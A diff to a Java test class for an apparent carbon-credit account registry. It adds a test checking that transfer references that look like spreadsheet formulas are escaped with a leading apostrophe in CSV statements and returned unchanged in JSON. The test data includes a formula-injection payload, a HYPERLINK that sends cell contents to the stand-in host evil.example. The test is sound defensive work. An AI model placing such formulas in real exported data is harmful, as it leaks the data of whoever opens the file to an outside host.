@@ -50,6 +50,7 @@ class AccountStatementTest {
   /** The seq of each of alice's movements, by a name for it. */
   private static final Map<String, Long> SEQS = new LinkedHashMap<>();
   private static long firstSerial;
+  private static String projectId;
 
   @BeforeAll
   static void setUp() throws Exception {
@@ -62,7 +63,7 @@ class AccountStatementTest {
     bobKey = holderKey(bob);
     auditorKey = server.data("mutation { createApiKey(input: {role: AUDITOR, name: \"auditor\"}) { token } }", null)
         .getJsonObject("createApiKey").getString("token");
-    String projectId = mutation(server.adminToken, "registerProject", "project { projectId }", new JsonObject()
+    projectId = mutation(server.adminToken, "registerProject", "project { projectId }", new JsonObject()
         .put("program", "JCREDIT").put("programProjectId", "JCL-9").put("name", "Forest").put("hostCountry", "JP")
         .put("methodology", "FO-001").put("category", "FORESTRY").put("mitigationType", "REMOVAL")
         .put("creditingPeriod", new JsonObject().put("start", "2020-01-01").put("end", "2030-12-31"))
@@ -283,6 +284,36 @@ class AccountStatementTest {
     }
   }
 
+  /**
+   * A reference another holder wrote that a spreadsheet would run as a formula is text in the receiver's CSV (a
+   * leading apostrophe), and exactly as sent in the JSON and in GraphQL.
+   */
+  @Test
+  void aReferenceThatLooksLikeAFormulaIsTextInTheCsv() throws Exception {
+    List<String> hostile = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"Refund\")", "+1+1", "-2+3", "@SUM(1+1)");
+    // Accounts of their own, so that the other tests' balances and windows stay as they expect.
+    String sender = openAccount("Formula Sender", "Sender", "HOLDING", null);
+    String receiver = openAccount("Formula Receiver", "Receiver", "HOLDING", null);
+    mutation(server.adminToken, "issueUnits", "", new JsonObject().put("projectId", projectId).put("vintage", 2023)
+        .put("quantity", 10).put("unitType", "JCU")
+        .put("monitoringPeriod", new JsonObject().put("start", "2023-01-01").put("end", "2023-12-31")));
+    transfer(server.adminToken, issuanceAccount, sender, quantity(10), "FUND-FORMULAS");
+    String senderKey = holderKey(sender);
+    String receiverKey = holderKey(receiver);
+    long first = -1;
+    for (String reference : hostile) {
+      long seq = transfer(senderKey, sender, receiver, quantity(1), reference);
+      first = first < 0 ? seq : first;
+    }
+    String window = "?fromSeq=" + first + "&toSeq=" + (first + hostile.size() - 1);
+    List<List<String>> rows = Csv.parse(download(receiverKey, receiver, "csv", window).body());
+    List<String> inCsv = rows.stream().filter(row -> row.get(0).equals("MOVEMENT")).map(row -> row.get(8)).toList();
+    assertEquals(hostile.stream().map(reference -> "'" + reference).toList(), inCsv);
+    JsonArray inJson = new JsonObject(download(receiverKey, receiver, "json", window).body()).getJsonArray("movements");
+    assertEquals(hostile, inJson.stream().map(movement -> ((JsonObject) movement).getString("reference")).toList());
+    assertEquals("T-1", StatementCsv.asText("T-1"), "an ordinary reference is left as it is");
+  }
+
   /** The CSV rows a statement should download as, built from its GraphQL answer (docs/API.md gives the format). */
   private static List<List<String>> csvOf(JsonObject statement) {
     List<List<String>> rows = new ArrayList<>();
@@ -299,7 +330,7 @@ class AccountStatementTest {
       movement.getJsonArray("inclusionProof").forEach(hash -> proof.add((String) hash));
       rows.add(row("MOVEMENT", account, movement.getValue("seq"), movement.getValue("time"), movement.getValue("kind"),
           movement.getValue("counterpartAccountId"), movement.getValue("quantity"), String.join(" ", ranges),
-          movement.getValue("reference"), movement.getValue("leafHash"), String.join(" ", proof), null));
+          StatementCsv.asText(movement.getString("reference")), movement.getValue("leafHash"), String.join(" ", proof), null));
     }
     rows.add(row("CLOSING", account, window.getValue("toSeq"), window.getValue("toTime"), null, null,
         statement.getValue("closingBalance"), null, null, null, null, null));
